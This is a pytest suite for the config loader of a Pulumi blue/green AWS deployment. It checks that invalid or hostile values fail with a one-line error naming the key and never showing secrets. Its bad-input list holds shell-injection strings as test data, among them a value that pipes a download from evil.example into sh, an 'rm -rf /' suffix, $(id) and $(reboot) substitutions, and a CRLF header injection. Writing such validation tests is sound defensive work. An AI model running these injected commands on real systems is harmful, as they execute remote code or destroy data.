"""P8: bad input fails at startup with one line naming the config key, and nothing is created."""

from pathlib import Path
from typing import Any

import pulumi
import pytest

from components.config import ConfigError, Settings, load
from tests.engine import Engine, UpdateFailed
from tests.project import Project
from tests.stack_config import PROJECT


class _NoResources(pulumi.runtime.Mocks):
    def new_resource(self, args: pulumi.runtime.MockResourceArgs) -> tuple[str, dict[str, Any]]:
        raise AssertionError("loading config registers nothing")

    def call(self, args: pulumi.runtime.MockCallArgs) -> dict[str, Any]:
        raise AssertionError("loading config invokes nothing")


@pytest.fixture
def config_project(tmp_path: Path) -> Project:
    return Project.create(tmp_path / "project", {})


def load_as(project: Project, stack: str, **overrides: Any) -> Settings:
    """Config as `pulumi config set` on the stack would give it (active_color: in Pulumi.yaml, its home)."""
    for key, value in overrides.items():
        if key == "active_color":
            project.promote(value)
        else:
            project.set(stack, key, value)
    pulumi.runtime.settings.ROOT.set(None)
    pulumi.runtime.set_mocks(_NoResources(), project=PROJECT, stack=stack)
    pulumi.runtime.set_all_config(project.config(stack))
    return load(project.root)


def routes_with(**route_fields: Any) -> dict[str, Any]:
    return {
        "web": {"rule_arn": "arn:aws:elasticloadbalancing:ap-northeast-1:1:listener-rule/app/p/1/2/3", **route_fields}
    }


BAD_INPUTS = [
    pytest.param({"active_color": "purple"}, "bluegreen:active_color", id="unknown-active-color"),
    pytest.param({"color": "red"}, "bluegreen:color", id="unknown-color"),
    pytest.param({"version": ""}, "bluegreen:version", id="empty-version"),
    pytest.param({"version": "1.2"}, "bluegreen:version", id="short-version"),
    pytest.param({"version": "1.2.3; rm -rf /"}, "bluegreen:version", id="version-with-semicolon"),
    pytest.param({"version": "1.2.3 beta"}, "bluegreen:version", id="version-with-space"),
    pytest.param({"version": "$(id)"}, "bluegreen:version", id="version-with-dollar"),
    pytest.param({"version": "1.2.3'"}, "bluegreen:version", id="version-with-quote"),
    pytest.param({"version": "1.2.3\n"}, "bluegreen:version", id="version-with-newline"),
    pytest.param({"version": "1.2.3/../x"}, "bluegreen:version", id="version-with-slash"),
    pytest.param({"min_size": "-1"}, "bluegreen:min_size", id="negative-min"),
    pytest.param({"desired_capacity": "-2", "min_size": "0"}, "bluegreen:desired_capacity", id="negative-desired"),
    pytest.param({"min_size": "3", "desired_capacity": "2"}, "bluegreen:min_size", id="min-above-desired"),
    pytest.param({"desired_capacity": "5", "max_size": "4"}, "bluegreen:desired_capacity", id="desired-above-max"),
    pytest.param({"min_size": "0", "desired_capacity": "0"}, "bluegreen:desired_capacity", id="zero-live-capacity"),
    pytest.param({"max_size": "many"}, "bluegreen:max_size", id="capacity-not-a-number"),
    pytest.param({"idle_capacity": "-1"}, "bluegreen:idle_capacity", id="negative-idle"),
    pytest.param({"idle_capacity": "9"}, "bluegreen:idle_capacity", id="idle-above-max"),
    pytest.param({"routes": {}}, "bluegreen:routes", id="empty-routes"),
    pytest.param({"routes": ["web"]}, "bluegreen:routes", id="routes-not-a-map"),
    pytest.param({"routes": {"web": {"port": 80}}}, "bluegreen:routes.web.rule_arn", id="route-without-rule"),
    pytest.param({"routes": routes_with(rule_arn="not-an-arn")}, "bluegreen:routes.web.rule_arn", id="route-bad-rule"),
    pytest.param({"routes": routes_with(port=70000)}, "bluegreen:routes.web.port", id="route-bad-port"),
    pytest.param({"routes": routes_with(protocol="FTP")}, "bluegreen:routes.web.protocol", id="route-bad-protocol"),
    pytest.param({"routes": routes_with(colour="blue")}, "bluegreen:routes.web.colour", id="route-unknown-field"),
    pytest.param({"routes": {"Web Route": routes_with()["web"]}}, "bluegreen:routes", id="route-bad-name"),
    pytest.param(
        {"routes": {**routes_with(), "api": routes_with()["web"]}}, "bluegreen:routes.api.rule_arn", id="shared-rule"
    ),
    pytest.param({"subnet_ids": []}, "bluegreen:subnet_ids", id="no-subnets"),
    pytest.param({"app_name": "My App"}, "bluegreen:app_name", id="bad-app-name"),
    pytest.param({"image_id": "ubuntu"}, "bluegreen:image_id", id="bad-image-id"),
    pytest.param({"build_timeout_seconds": "0"}, "bluegreen:build_timeout_seconds", id="zero-build-timeout"),
    pytest.param({"source_ami_owners": []}, "bluegreen:source_ami_owners", id="no-ami-owners"),
    pytest.param({"source_ami_name": ""}, "bluegreen:source_ami_name", id="empty-ami-filter"),
    pytest.param({"artifact_repository": "ftp://x"}, "bluegreen:artifact_repository", id="bad-artifact-repository"),
    pytest.param({"http_proxy": "proxy:3128"}, "bluegreen:http_proxy", id="bad-proxy"),
    pytest.param({"gate_timeout_seconds": "0"}, "bluegreen:gate_timeout_seconds", id="zero-gate-timeout"),
    # Values that would become shell syntax or code on the build instance, or split a header.
    pytest.param(
        {"artifact_id": "app;curl${IFS}-s${IFS}evil.example|sh;#"}, "bluegreen:artifact_id", id="hostile-artifact-id"
    ),
    pytest.param({"artifact_group_id": "com.example$(id>x)"}, "bluegreen:artifact_group_id", id="hostile-group-id"),
    pytest.param({"artifact_repository": "s3://bucket/x;reboot"}, "bluegreen:artifact_repository", id="hostile-s3"),
    pytest.param(
        {"artifact_repository": "https://repo.example/x?$(id)"}, "bluegreen:artifact_repository", id="hostile-https"
    ),
    pytest.param({"http_proxy": "http://proxy$(reboot):3128"}, "bluegreen:http_proxy", id="hostile-proxy"),
    pytest.param({"http_proxy": "http://proxy.example"}, "bluegreen:http_proxy", id="proxy-without-port"),
    pytest.param({"ssh_username": "ec2-user; id"}, "bluegreen:ssh_username", id="hostile-ssh-user"),
    pytest.param({"instance_type": "t3.micro; id"}, "bluegreen:instance_type", id="hostile-instance-type"),
    pytest.param({"key_name": "ops key;id"}, "bluegreen:key_name", id="hostile-key-name"),
    pytest.param({"instance_profile": "app profile"}, "bluegreen:instance_profile", id="hostile-profile"),
    pytest.param({"source_ami_name": "amzn2-*;id"}, "bluegreen:source_ami_name", id="hostile-ami-name"),
    pytest.param({"source_ami_owners": ["amazon; id"]}, "bluegreen:source_ami_owners", id="hostile-ami-owner"),
    pytest.param({"endpoint_url": "http://127.0.0.1:5000/$(id)"}, "bluegreen:endpoint_url", id="hostile-endpoint"),
    pytest.param({"aws:region": "ap-northeast-1; id"}, "aws:region", id="hostile-region"),
    pytest.param({"subnet_ids": ["subnet-1; id"]}, "bluegreen:subnet_ids", id="hostile-subnet"),
    pytest.param(
        {"smoke_checks": [{"url": "http://x.example/health", "host": "a.example\r\nX-Injected: 1"}]},
        "bluegreen:smoke_checks[0].host",
        id="smoke-host-with-crlf",
    ),
    pytest.param(
        {"smoke_checks": [{"url": "http://x.example/a b"}]}, "bluegreen:smoke_checks[0].url", id="smoke-url-space"
    ),
    pytest.param({"gate_poll_seconds": "0"}, "bluegreen:gate_poll_seconds", id="zero-gate-poll"),
    pytest.param({"smoke_checks": {"url": "http://x"}}, "bluegreen:smoke_checks", id="smoke-checks-not-a-list"),
    pytest.param({"smoke_checks": [{"url": "ftp://x"}]}, "bluegreen:smoke_checks[0].url", id="smoke-bad-url"),
    pytest.param(
        {"smoke_checks": [{"url": "http://x", "expected_status": 999}]},
        "bluegreen:smoke_checks[0].expected_status",
        id="smoke-bad-status",
    ),
    pytest.param(
        {"smoke_checks": [{"url": "http://x", "body_pattern": "("}]},
        "bluegreen:smoke_checks[0].body_pattern",
        id="smoke-bad-pattern",
    ),
    pytest.param(
        {"smoke_checks": [{"url": "http://x", "hots": "a"}]}, "bluegreen:smoke_checks[0].hots", id="smoke-typo"
    ),
]


@pytest.mark.parametrize(("overrides", "key"), BAD_INPUTS)
def test_bad_input_names_the_key(config_project: Project, overrides: dict[str, Any], key: str) -> None:
    with pytest.raises(ConfigError) as raised:
        load_as(config_project, "blue", **overrides)
    message = str(raised.value)
    assert key in message
    assert "\n" not in message


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("http_proxy", "http://deploy:S3CRET-pw@proxy.example"),
        ("artifact_repository", "https://deploy:S3CRET-pw@repo.example/maven?x"),
        ("smoke_checks", [{"url": "https://green.example/health?token=S3CRET-pw#x"}]),
    ],
)
def test_a_bad_secret_is_named_but_never_shown(config_project: Project, key: str, value: Any) -> None:
    with pytest.raises(ConfigError) as raised:
        load_as(config_project, "blue", **{key: value})
    assert f"bluegreen:{key}" in str(raised.value)
    assert "S3CRET" not in str(raised.value)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("http_proxy", "http://deploy:p%40ss@proxy.example.com:3128"),
        ("artifact_repository", "s3://example-maven-repository/releases"),
        ("artifact_repository", "https://deploy:token@repo.example.com/maven2"),
        ("artifact_group_id", "com.example.payments"),
        ("artifact_id", "payments-api_2"),
        ("ssh_username", "ec2-user"),
        ("instance_type", "m5d.2xlarge"),
        ("source_ami_owners", ["137112412989", "self"]),
    ],
)
def test_real_values_are_accepted(config_project: Project, key: str, value: Any) -> None:
    settings = load_as(config_project, "blue", **{key: value})
    found = {**vars(settings), **vars(settings.image_build)}
    assert found[key] == (tuple(value) if isinstance(value, list) else value)


def test_stack_without_a_color_fails(config_project: Project) -> None:
    with pytest.raises(ConfigError, match="bluegreen:color"):
        load_as(config_project, "staging")


def test_explicit_color_names_a_stack_of_any_name(config_project: Project) -> None:
    assert load_as(config_project, "staging", color="green", version="1.0.0").color == "green"


def test_color_defaults_to_the_stack_name(config_project: Project) -> None:
    assert load_as(config_project, "green").color == "green"


def test_prerelease_version_is_accepted(config_project: Project) -> None:
    assert load_as(config_project, "blue", version="1.2.3-rc.1").version == "1.2.3-rc.1"


def test_config_error_is_reported_without_a_stack_trace() -> None:
    assert issubclass(ConfigError, pulumi.RunError)


def test_active_color_has_one_home(config_project: Project) -> None:
    config_project.set("green", "active_color", "green")
    with pytest.raises(ConfigError, match=r"set in Pulumi\.green\.yaml.*pulumi config rm active_color --stack green"):
        load_as(config_project, "green")


def test_active_color_from_anywhere_but_pulumi_yaml_fails(config_project: Project) -> None:
    """`--config` or an environment: the merged value differs from Pulumi.yaml's."""
    pulumi.runtime.settings.ROOT.set(None)
    pulumi.runtime.set_mocks(_NoResources(), project=PROJECT, stack="blue")
    pulumi.runtime.set_all_config({**config_project.config("blue"), "bluegreen:active_color": "green"})
    with pytest.raises(ConfigError, match=r"'green' for stack blue but 'blue' in Pulumi\.yaml"):
        load(config_project.root)


def test_target_group_names_must_fit_aws_limit(config_project: Project) -> None:
    arn = "arn:aws:elasticloadbalancing:ap-northeast-1:1:listener-rule/app/p/1/2/"
    with pytest.raises(ConfigError, match=r"bluegreen:app_name and bluegreen:routes\.checkout1 are too long together"):
        load_as(config_project, "blue", app_name="storefront", routes={"checkout1": {"rule_arn": arn + "1"}})


PROGRAM_CASES = {"unknown-active-color", "empty-version", "empty-routes", "negative-min", "route-without-rule"}


@pytest.mark.parametrize(("overrides", "key"), [case for case in BAD_INPUTS if case.id in PROGRAM_CASES])
def test_bad_input_creates_nothing(engine: Engine, project: Project, overrides: dict[str, Any], key: str) -> None:
    for name, value in overrides.items():
        project.promote(value) if name == "active_color" else project.set("blue", name, value)
    with pytest.raises(UpdateFailed, match=key.replace(".", r"\.")):
        engine.up("blue")
    assert engine.resources("blue") == []


def test_smoke_checks_are_read_with_defaults(config_project: Project) -> None:
    settings = load_as(
        config_project, "blue", smoke_checks=[{"url": "https://green.example/health", "host": "app.example"}]
    )
    assert settings.smoke_checks == (
        {
            "url": "https://green.example/health",
            "expected_status": 200,
            "body_pattern": "",
            "host": "app.example",
            "via_test_route": False,
        },
    )


def test_drain_delay_is_the_longest_deregistration_delay(config_project: Project) -> None:
    arn = "arn:aws:elasticloadbalancing:ap-northeast-1:1:listener-rule/app/p/1/2/"
    routes = {"web": {"rule_arn": arn + "1", "deregistration_delay": 30}, "api": {"rule_arn": arn + "2"}}
    assert load_as(config_project, "blue", routes=routes).drain_seconds == 60


def test_color_set_in_pulumi_yaml_fails(config_project: Project) -> None:
    config_project.set_shared("color", "blue")
    with pytest.raises(ConfigError, match=r"bluegreen:color is set in Pulumi\.yaml"):
        load_as(config_project, "green")


def test_a_color_stack_set_to_the_other_color_fails(config_project: Project) -> None:
    with pytest.raises(ConfigError, match="bluegreen:color is 'green' for the stack named blue"):
        load_as(config_project, "blue", color="green")
